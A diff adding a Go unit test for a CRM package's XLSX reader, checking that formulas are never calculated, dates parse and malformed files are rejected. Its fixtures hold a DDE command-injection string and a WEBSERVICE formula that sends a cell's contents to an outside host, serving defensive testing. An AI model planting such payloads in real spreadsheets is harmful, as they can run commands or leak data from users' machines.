@@ -1,0 +1,55 @@
+package crm
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+)
+
+func xlsxBytes(t *testing.T, fill func(f *excelize.File)) []byte {
+	t.Helper()
+	f := excelize.NewFile()
+	defer f.Close()
+	fill(f)
+	b, err := f.WriteToBuffer()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// TestReadXLSXNeverCalculates: a formula cell gives the value Excel cached (here none),
+// never a calculated one; text that looks like a formula stays text; dates are serials.
+func TestReadXLSXNeverCalculates(t *testing.T) {
+	data := xlsxBytes(t, func(f *excelize.File) {
+		f.SetSheetRow("Sheet1", "A1", &[]any{"Contact ID", "Full Name", "Title", "Last Activity"})
+		f.SetSheetRow("Sheet1", "A2", &[]any{"1", "=cmd|' /C calc'!A0", nil, time.Date(2027, 3, 15, 0, 0, 0, 0, time.UTC)})
+		f.SetCellFormula("Sheet1", "C2", `WEBSERVICE("http://example.com/?"&B2)`)
+	})
+	tb, err := Read(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !tb.XLSX || len(tb.Rows) != 1 {
+		t.Fatalf("got %+v", tb)
+	}
+	c := tb.Rows[0].Cells
+	if c[1] != "=cmd|' /C calc'!A0" || c[2] != "" {
+		t.Errorf("cells %q", c)
+	}
+	if d, err := parseDate(c[3], true, ""); err != nil || d.Format("2006-01-02") != "2027-03-15" {
+		t.Errorf("date cell %q: %v %v", c[3], d, err)
+	}
+	bad := xlsxBytes(t, func(f *excelize.File) {
+		f.SetSheetRow("Sheet1", "A1", &[]any{"Contact ID", "Full Name"})
+		f.SetSheetRow("Sheet1", "A2", &[]any{"1", "A", "beyond"})
+	})
+	if _, err := Read(bad); err == nil || !strings.Contains(err.Error(), "row 2: a value beyond the header's 2 columns") {
+		t.Errorf("a value beyond the header: %v", err)
+	}
+	if _, err := Read([]byte("PK\x03\x04not a zip")); err == nil || !strings.Contains(err.Error(), "not a readable XLSX") {
+		t.Errorf("a broken XLSX: %v", err)
+	}
+}
